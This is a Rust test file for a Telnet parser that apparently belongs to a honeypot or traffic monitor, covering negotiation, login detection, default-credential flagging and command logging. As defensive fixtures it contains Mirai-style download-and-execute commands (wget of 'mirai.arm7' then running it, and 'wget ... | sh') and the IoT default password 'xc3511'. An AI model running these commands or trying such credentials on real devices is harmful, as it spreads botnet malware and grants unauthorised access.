//! Telnet parser tests: negotiation, logins, commands.

use super::*;
use Direction::{ToClient as S, ToServer as C};

fn run(steps: &[(Direction, &[u8])]) -> Vec<TelnetEvent> {
    let mut p = TelnetParser::new();
    let mut out = Vec::new();
    for (d, b) in steps {
        p.data(*d, b, &mut out);
    }
    out
}

#[test]
fn negotiation_and_subnegotiation() {
    let out = run(&[
        (S, &[IAC, DO, 24, IAC, WILL, 1]),
        (
            C,
            &[IAC, SB, 24, 0, b'x', IAC, IAC, b't', IAC, SE, b'\r', 0],
        ),
    ]);
    assert_eq!(
        out,
        vec![
            TelnetEvent::Negotiation {
                direction: S,
                verb: Verb::Do,
                option: 24
            },
            TelnetEvent::Negotiation {
                direction: S,
                verb: Verb::Will,
                option: 1
            },
            TelnetEvent::Subnegotiation {
                direction: C,
                option: 24,
                len: 4
            },
        ]
    );
}

#[test]
fn char_mode_login_success_with_echo_and_backspace() {
    let mut steps: Vec<(Direction, &[u8])> =
        vec![(S, b"\r\nDebian GNU/Linux 12\r\nrouter login: ")];
    for c in [b"r", b"o", b"x", b"\x7f", b"o", b"t"] {
        steps.push((C, c));
        steps.push((S, if c == b"\x7f" { b"\x08 \x08" } else { c }));
    }
    steps.extend_from_slice(&[
        (C, b"\r\0"),
        (S, b"\r\nPassword: "),
        (C, b"s"),
        (C, b"e"),
        (C, b"\r\n"),
        (S, b"\r\nLast login: today\r\n"),
        (S, b"root@router:~# "),
    ]);
    let out = run(&steps);
    assert_eq!(
        out,
        vec![
            TelnetEvent::Prompt {
                kind: PromptKind::Login,
                text: "router login:".into()
            },
            TelnetEvent::Username {
                name: "root".into()
            },
            TelnetEvent::Prompt {
                kind: PromptKind::Password,
                text: "Password:".into()
            },
            TelnetEvent::Password {
                len: 2,
                username: Some("root".into()),
                default_credential: false
            },
            TelnetEvent::LoginResult {
                success: true,
                evidence: "root@router:~#".into(),
                username: Some("root".into()),
                default_credential: false
            },
        ]
    );
}

#[test]
fn default_credential_is_recognised_without_keeping_the_password() {
    let out = run(&[
        (S, b"login: "),
        (C, b"root\r\n"),
        (S, b"Password: "),
        (C, b"xc3511\r\n"),
        (S, b"\r\n# "),
    ]);
    assert!(out.contains(&TelnetEvent::LoginResult {
        success: true,
        evidence: "#".into(),
        username: Some("root".into()),
        default_credential: true
    }));
    let json = serde_json::to_string(&out).unwrap();
    assert!(!json.contains("xc3511"), "{json}");
}

#[test]
fn line_mode_failure_then_retry() {
    let out = run(&[
        (S, b"Username: "),
        (C, b"admin\r\n"),
        (S, b"Password: "),
        (C, b"1234\r\n"),
        (S, b"\r\nLogin incorrect\r\n\r\nlogin: "),
    ]);
    assert_eq!(out.len(), 6, "{out:?}");
    assert!(matches!(
        &out[4],
        TelnetEvent::LoginResult { success: false, .. }
    ));
    assert_eq!(
        out[5],
        TelnetEvent::Prompt {
            kind: PromptKind::Login,
            text: "login:".into()
        }
    );
}

fn commands(out: &[TelnetEvent]) -> Vec<(u32, String, bool, Vec<Download>)> {
    out.iter()
        .filter_map(|e| match e {
            TelnetEvent::Command {
                index,
                line,
                truncated,
                downloads,
            } => Some((*index, line.clone(), *truncated, downloads.clone())),
            _ => None,
        })
        .collect()
}

#[test]
fn commands_after_login_are_events_with_their_downloads() {
    let out = run(&[
        (C, b"ls /tmp\r\n"), // before any login: not a command
        (S, b"login: "),
        (C, b"admin\r\n"),
        (S, b"Password: "),
        (C, b"admin\r\n"),
        (S, b"\r\nBusyBox v1.35 built-in shell\r\n# "),
        (C, b"cd /tmp; wget http://198.18.0.66/bins/mirai.arm7\r\n"),
        (S, b"ok\r\n# "),
        (C, b"\r\n"),
        (C, b"chmod 777 mirai.arm7; ./mirai.arm7 telnet\r\n"),
    ]);
    let cmds = commands(&out);
    assert_eq!(cmds.len(), 2, "{out:?}");
    let (index, line, truncated, downloads) = &cmds[0];
    assert_eq!(*index, 1);
    assert_eq!(line, "cd /tmp; wget http://198.18.0.66/bins/mirai.arm7");
    assert!(!truncated);
    assert_eq!(
        downloads,
        &vec![Download {
            tool: "wget",
            url: "http://198.18.0.66/bins/mirai.arm7".into(),
            file: Some("mirai.arm7".into()),
            executed: false,
        }]
    );
    // The next command runs the earlier download.
    let (index, _, _, downloads) = &cmds[1];
    assert_eq!(*index, 2);
    assert_eq!(downloads.len(), 1);
    assert!(downloads[0].executed);
    assert_eq!(downloads[0].url, "http://198.18.0.66/bins/mirai.arm7");
}

#[test]
fn commands_are_bounded_in_length_and_number() {
    let mut p = TelnetParser::new();
    let mut out = Vec::new();
    p.data(S, b"login: ", &mut out);
    p.data(C, b"root\r\n", &mut out);
    p.data(S, b"Password: ", &mut out);
    p.data(C, b"root\r\n", &mut out);
    p.data(S, b"$ ", &mut out);
    let long = vec![b'a'; MAX_COMMAND + 500];
    p.data(C, &long, &mut out);
    p.data(C, b"\x7f\r\n", &mut out); // a backspace after the cut edits nothing
    for _ in 0..MAX_COMMANDS + 10 {
        p.data(C, b"id\r\n", &mut out);
    }
    let cmds = commands(&out);
    assert_eq!(cmds.len(), MAX_COMMANDS as usize);
    assert_eq!(cmds[0].1.len(), MAX_COMMAND);
    assert!(cmds[0].2);
    assert!(!cmds[1].2);
    assert_eq!(p.commands_dropped(), 11);
}

#[test]
fn failed_login_lines_are_not_commands() {
    let out = run(&[
        (S, b"login: "),
        (C, b"root\r\n"),
        (S, b"Password: "),
        (C, b"x\r\n"),
        (S, b"\r\nLogin incorrect\r\n"),
        (C, b"wget http://a/b | sh\r\n"),
    ]);
    assert!(commands(&out).is_empty(), "{out:?}");
}

#[test]
fn noise_never_panics() {
    let mut p = TelnetParser::new();
    let mut out = Vec::new();
    let mut seed = 7u32;
    for i in 0..20_000 {
        seed = seed.wrapping_mul(1_103_515_245).wrapping_add(12345);
        let b = [(seed >> 16) as u8, (seed >> 8) as u8];
        p.data(if i % 3 == 0 { C } else { S }, &b, &mut out);
    }
}
